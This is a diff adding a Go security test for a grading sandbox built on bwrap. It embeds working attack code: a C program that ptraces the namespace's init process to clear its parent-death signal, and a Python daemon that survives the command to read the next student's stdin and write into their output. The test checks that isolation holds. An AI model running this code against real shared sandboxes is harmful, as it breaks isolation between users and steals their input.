@@ -1,0 +1,99 @@
+//go:build linux
+
+package sandbox
+
+import (
+	"os"
+	"path/filepath"
+	"testing"
+	"time"
+
+	"github.com/stretchr/testify/assert"
+	"github.com/stretchr/testify/require"
+)
+
+// unpinInit clears the parent-death signal of PID 1 of the command's PID
+// namespace (bwrap's init, the same user as the command, and dumpable) by
+// injecting prctl(PR_SET_PDEATHSIG, 0) into it with ptrace, then lets it
+// go back to waiting for its children.
+const unpinInit = `#define _GNU_SOURCE
+#include <stdio.h>
+#include <sys/prctl.h>
+#include <sys/ptrace.h>
+#include <sys/syscall.h>
+#include <sys/user.h>
+#include <sys/wait.h>
+
+int main(void) {
+	struct user_regs_struct saved, r;
+	int st;
+	if (ptrace(PTRACE_SEIZE, 1, 0, 0) < 0 || ptrace(PTRACE_INTERRUPT, 1, 0, 0) < 0) { perror("ptrace"); return 1; }
+	waitpid(1, &st, __WALL);
+	ptrace(PTRACE_SYSCALL, 1, 0, 0); /* to the entry of its restarted wait */
+	waitpid(1, &st, __WALL);
+	ptrace(PTRACE_GETREGS, 1, 0, &saved);
+	r = saved;
+	r.orig_rax = SYS_prctl; r.rdi = PR_SET_PDEATHSIG; r.rsi = 0;
+	ptrace(PTRACE_SETREGS, 1, 0, &r);
+	ptrace(PTRACE_SYSCALL, 1, 0, 0);
+	waitpid(1, &st, __WALL);
+	ptrace(PTRACE_GETREGS, 1, 0, &r);
+	saved.rip -= 2; saved.rax = saved.orig_rax; /* wait again */
+	ptrace(PTRACE_SETREGS, 1, 0, &saved);
+	ptrace(PTRACE_DETACH, 1, 0, 0);
+	return r.rax != 0;
+}
+`
+
+// lurker leaves a daemon that keeps an O_PATH handle on the command's stdin
+// and stdout (the cell's request file and output FIFO, which every command
+// of the cell reuses), waits for the next command's stdin to appear, and
+// writes it into the next command's stdout.
+const lurker = `import os, signal, time
+out = os.open("/proc/self/fd/1", os.O_PATH)
+inp = os.open("/proc/self/fd/0", os.O_PATH)
+if os.fork():
+    os._exit(0)
+os.setsid()
+for fd in (0, 1, 2):
+    os.close(fd)
+signal.signal(signal.SIGPIPE, signal.SIG_IGN)
+deadline = time.time() + 15
+while time.time() < deadline:
+    time.sleep(0.1)
+    with open("/proc/self/fd/%d" % inp, "rb") as f:
+        stolen = f.read()
+    if not stolen:
+        continue
+    try:
+        w = os.open("/proc/self/fd/%d" % out, os.O_WRONLY | os.O_NONBLOCK)
+    except OSError:
+        continue
+    os.write(w, b"the previous command read this command's stdin: " + stolen)
+    os.close(w)
+    break
+`
+
+// TestAttackCellCommandOutlivesItself: a command ptraces bwrap's init (PID 1
+// of its namespace: same user, dumpable, no Yama) and clears its
+// parent-death signal. When the command exits, bwrap's monitor reports its
+// status and exits, but the init no longer dies with it: it keeps waiting
+// for the command's daemon, which lives on in the cell after the runner
+// has taken the result. The next command in the cell — another student's —
+// then has its stdin read and its stdout written by that daemon.
+func TestAttackCellCommandOutlivesItself(t *testing.T) {
+	r := newCellRunner(t)
+	// One cell only, so that both commands run in it.
+	spare := <-r.cells
+	t.Cleanup(func() { r.cells <- spare })
+
+	dir := scratch(t)
+	require.NoError(t, os.WriteFile(filepath.Join(dir, "unpin.c"), []byte(unpinInit), 0o644))
+	require.NoError(t, os.WriteFile(filepath.Join(dir, "lurker.py"), []byte(lurker), 0o644))
+	res := run(t, r, Spec{Dir: dir, Env: []string{"PATH=/usr/bin:/bin"}, Timeout: 30 * time.Second,
+		Argv: sh("cc -o /tmp/unpin unpin.c && /tmp/unpin && python3 lurker.py && echo planted")})
+	require.Equal(t, "planted\n", string(res.Stdout), "%s", res.Stderr)
+
+	res = run(t, r, Spec{Argv: sh("sleep 3; echo graded"), Stdin: []byte("hidden test input\n")})
+	assert.Equal(t, "graded\n", string(res.Stdout), "nothing of the previous command may reach this one")
+}
